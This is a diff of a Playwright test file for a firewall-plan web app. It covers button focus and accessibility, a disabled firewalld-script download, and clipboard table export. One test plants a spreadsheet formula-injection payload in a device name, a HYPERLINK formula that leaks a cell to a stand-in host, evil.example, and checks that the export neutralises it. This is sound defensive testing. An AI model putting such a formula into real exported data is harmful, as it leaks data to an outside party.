@@ -73,6 +73,11 @@ test('"Download PDF": a PDF whose text holds the title, a rule and the footer', 
   const { name, bytes } = await download(page, 'Download PDF');
   expect(name).toMatch(/\.pdf$/);
   expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
+  // Disabled while the PDF was made, the button gets the focus back (not the page's body).
+  const button = page.getByRole('button', { name: 'Download PDF', exact: true });
+  await expect(button).toBeEnabled();
+  await expect(button).toBeFocused();
+  await expect(button).not.toHaveAttribute('aria-busy', 'true');
   test.skip(!existsSync('/usr/bin/pdftotext'), 'pdftotext (poppler-utils) is not installed');
   const path = test.info().outputPath('plan.pdf');
   await import('node:fs/promises').then((fs) => fs.writeFile(path, bytes));
@@ -123,6 +128,20 @@ test('"Download PowerShell script" and "Download connectivity check"', async ({ 
   expect(check).toMatch(/UDP/);
 });
 
+test('"Download firewalld script" is not available without a Linux host, and says why', async ({
+  page,
+}) => {
+  const button = page.getByRole('button', { name: 'Download firewalld script', exact: true });
+  await expect(button).toBeDisabled();
+  await expect(
+    page.getByText(/“Download firewalld script” is not available: This plan has no Linux host/),
+  ).toBeVisible();
+  await expect(button).toHaveAccessibleDescription(/This plan has no Linux host/);
+  await expect(
+    page.getByRole('button', { name: 'Download PowerShell script', exact: true }),
+  ).toBeEnabled();
+});
+
 test('"Download firewalld script": rich rules for the Linux host of the plan', async ({ page }) => {
   const plan = typicalPlan();
   plan.console.address = '10.20.0.5';
@@ -147,29 +166,8 @@ test('"Download firewalld script": rich rules for the Linux host of the plan', a
   );
 });
 
-test('"Copy table" puts tab-separated rules on the clipboard', async ({ page, context }) => {
-  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
-  const text = await page.evaluate(() => navigator.clipboard.readText());
-  const lines = text.split(/\r?\n/);
-  expect(lines[0]).toContain('Contoso NYC file services');
-  expect(lines[1]).toMatch(/^Rule\tEnvironment\tSource\tSource host\t/);
-  expect(text).toContain('4498');
-});
-
-test('"Copy table" puts text and an HTML table on the clipboard, formula-safe, stamped as a draft', async ({
-  page,
-  context,
-}) => {
-  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-  const plan = typicalPlan();
-  const hostile = '=HYPERLINK("http://evil.example/?leak="&C4,"x")';
-  plan.devices = plan.devices.map((d, i) =>
-    i === 1 ? { ...d, name: hostile, addresses: ['not an address!'] } : d,
-  );
-  await openReview(page, plan);
-  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
-  await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
+/** Both flavours on the clipboard, read back in the page: the text and the HTML table's cells. */
+async function readClipboardTable(page: Page) {
   const copied = await page.evaluate(async () => {
     const [item] = await navigator.clipboard.read();
     if (!item) return null;
@@ -185,18 +183,62 @@ test('"Copy table" puts text and an HTML table on the clipboard, formula-safe, s
     };
   });
   if (!copied) throw new Error('nothing on the clipboard');
+  return copied;
+}
+
+test('"Copy table" puts a compact table on the clipboard as text/plain and text/html', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
+  await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
+  const copied = await readClipboardTable(page);
+  expect(copied.types).toEqual(['text/html', 'text/plain']);
+  const lines = copied.text.replace(/\n$/, '').split('\n');
+  // The header row first: no title line.
+  expect(lines[0]).toBe('Rule\tFrom\tTo\tProtocol\tPort(s)\tPurpose');
+  const textCells = lines.map((line) => line.split('\t'));
+  expect(copied.rows.map((row) => row.map((c) => c.text))).toEqual(textCells);
+  expect(copied.rows[0]?.map((c) => c.tag)).toEqual(['th', 'th', 'th', 'th', 'th', 'th']);
+  // The console manages the agents on TCP 4498.
+  const agentRow = copied.rows.find(
+    (row) =>
+      row[1]?.text.startsWith('Activity Monitor Console (am-console') && row[4]?.text === '4498',
+  );
+  expect(agentRow?.map((c) => c.tag)).toEqual(['td', 'td', 'td', 'td', 'td', 'td']);
+  expect(agentRow?.[2]?.text).toContain('Agent server 1 (am-agent01.corp.contoso.com)');
+  expect(agentRow?.[3]?.text).toBe('TCP');
+  // The provenance closes the table.
+  expect(lines.at(-1)).toContain('Contoso NYC file services');
+});
+
+test('"Copy table" puts text and an HTML table on the clipboard, formula-safe, stamped as a draft', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const plan = typicalPlan();
+  const hostile = '=HYPERLINK("http://evil.example/?leak="&C4,"x")';
+  plan.devices = plan.devices.map((d, i) =>
+    i === 1 ? { ...d, name: hostile, addresses: ['not an address!'] } : d,
+  );
+  await openReview(page, plan);
+  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
+  await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
+  const copied = await readClipboardTable(page);
   expect(copied.types).toEqual(['text/html', 'text/plain']);
   const lines = copied.text.replace(/\n$/, '').split('\n');
   expect(lines[0]).toMatch(/^DRAFT — \d+ plan errors?: fix (it|them) before filing$/);
-  expect(lines[1]).toContain('Contoso NYC file services');
-  expect(lines[2]).toMatch(/^Rule\tEnvironment\tSource\tSource host\t/);
+  expect(lines[1]).toBe('Rule\tFrom\tTo\tProtocol\tPort(s)\tPurpose');
+  expect(lines.at(-1)).toContain('Contoso NYC file services');
   const textCells = lines.map((line) => line.split('\t'));
   // The HTML holds the same table, cell for cell, and nothing else.
   expect(copied.rows.map((row) => row.map((c) => c.text))).toEqual(textCells);
-  expect(copied.rows[2]?.every((c) => c.tag === 'th')).toBe(true);
-  expect(copied.elements).toEqual(['table', 'tbody', 'td', 'th', 'thead', 'tr']);
+  expect(copied.rows[1]?.every((c) => c.tag === 'th')).toBe(true);
+  expect(copied.elements).toEqual(['table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr']);
   const cells = textCells.flat();
-  expect(cells).toContain(`'${hostile} (not an address!, INVALID)`);
+  expect(cells).toContain(`'${hostile} (not an address!, INVALID) [Qumulo cluster]`);
   for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
 });
 
